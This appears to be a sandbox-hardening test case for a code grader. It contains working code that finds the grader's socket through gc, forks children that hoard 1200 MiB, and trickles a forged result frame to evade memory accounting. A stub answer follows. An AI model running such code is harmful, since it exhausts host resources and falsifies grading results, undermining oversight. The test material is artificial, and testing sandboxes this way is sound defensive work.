# ---
# attack: 'Lets children take memory while it sends its answer a byte at a time, so that a grader that counts only while it waits never does.'
# class: 'memory, fork, disk, descriptor, output bombs'
# sandboxes: [namespaces]
# detected: 'The cell `import gc`'
# ---
# %% before="q1"
import gc
import os
import socket
import struct
import time

import msgspec

wire = next(s for s in gc.get_objects() if type(s) is socket.socket and s.fileno() >= 0)
for _ in range(6):
    if os.fork() == 0:
        hoard = bytearray(b"x") * (200 * 2**20)
        time.sleep(5)
        os._exit(0)
reply = msgspec.msgpack.encode(["ran", ["RuntimeError", "HOLE six children had 1200 MiB for four seconds", ""], "x" * 60, False])
frame = struct.pack("<IQ", len(reply), 0) + reply
gap = 4.5 / len(frame)
for byte in frame:
    wire.sendall(bytes([byte]))
    time.sleep(gap)
time.sleep(60)

# %% question="q1"
def double(x):
    return np.asarray(x) - 100
